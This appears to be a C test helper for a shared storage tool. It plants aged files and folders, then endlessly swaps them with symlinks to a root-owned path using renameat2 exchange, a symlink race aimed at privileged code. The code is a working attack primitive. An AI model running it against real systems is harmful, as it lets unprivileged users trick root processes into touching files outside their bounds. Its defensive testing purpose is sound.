/*
 * What a member of a group can do to the group's store without a pause: folders of hers are exchanged for links to a
 * folder of root's, files for links to files there, and names that mean something are planted in tmp/.
 *
 * exchanger STORE OUTSIDE PLACE...: a place is KIND:PATH, `d` for a folder, `f` for a file, below the store.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2
#define INNER 40

static char paths[64][4096], links[64][4096], kinds[64];
static const char *outside;

static void age(const char *path) {
  struct timespec long_ago[2] = {{.tv_sec = time(NULL) - 3 * 86400}, {.tv_sec = time(NULL) - 3 * 86400}};
  utimensat(AT_FDCWD, path, long_ago, AT_SYMLINK_NOFOLLOW);
}

static void plant_file(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0666);
  if (fd < 0) return;
  if (write(fd, "planted\n", 8) < 0) exit(2);
  close(fd);
  age(path);
}

/* With the names that OUTSIDE has, and those that commands look for. */
static void plant_folder(const char *path) {
  static const char *names[] = {"ab", "cd", "x-1", "file-1", "zstd-9-128k-2"};
  char inner[5000];
  if (mkdir(path, 0755) != 0) return;
  for (int i = 0; i < INNER; i++) {
    snprintf(inner, sizeof inner, "%s/file-%d", path, i);
    plant_file(inner);
    snprintf(inner, sizeof inner, "%s/%062d", path, i);
    plant_file(inner);
  }
  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
    snprintf(inner, sizeof inner, "%s/%s", path, names[i]);
    mkdir(inner, 0755);
    age(inner);
  }
  age(path);
}

static void plant(int place) {
  char target[4200];
  if (kinds[place] == 'd') plant_folder(paths[place]);
  else plant_file(paths[place]);
  snprintf(target, sizeof target, "%s%s", outside, kinds[place] == 'd' ? "" : "/file-1");
  if (symlink(target, links[place]) == 0) age(links[place]);
}

int main(int count, char **arguments) {
  const char *store = arguments[1];
  outside = arguments[2];
  umask(022);
  int places = count - 3;
  for (int i = 0; i < places; i++) {
    kinds[i] = arguments[i + 3][0];
    snprintf(paths[i], sizeof *paths, "%s/%s", store, arguments[i + 3] + 2);
    snprintf(links[i], sizeof *links, "%s.link", paths[i]);
    if (kinds[i] == 'd' && strrchr(paths[i], '!') != NULL) return 2;
    plant(i);
  }
  if (write(1, ".", 1) < 0) return 2;
  for (unsigned long round = 0;; round++)
    for (int i = 0; i < places; i++) {
      long done = syscall(SYS_renameat2, AT_FDCWD, paths[i], AT_FDCWD, links[i], EXCHANGE);
      if (done != 0 && round % 64 == 0) plant(i);
    }
}
